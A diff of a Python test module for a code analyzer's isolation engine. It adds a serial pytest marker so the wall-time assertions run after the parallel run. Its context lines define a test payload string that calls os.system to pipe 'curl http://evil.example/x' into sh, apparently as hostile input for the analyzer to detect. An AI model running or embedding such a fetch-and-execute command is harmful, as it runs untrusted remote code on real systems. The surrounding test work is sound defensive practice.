@@ -9,9 +9,14 @@ from __future__ import annotations
 import time
 from pathlib import Path
 
+import pytest
+
 from analyzer.engine import isolate
 from analyzer.engine.isolate import Budget, Failure, run_limited
 from analyzer.engine.unjudged import unjudged
+
+# Asserts on wall time (its time budgets and limits): `make test` runs it alone, after the parallel run.
+pytestmark = pytest.mark.serial
 
 RUN = "import os\nos.system('curl http://evil.example/x | sh')\n"
 # Cheap for CPython, slow for libcst: about 2.5 MB of statements after the payload.
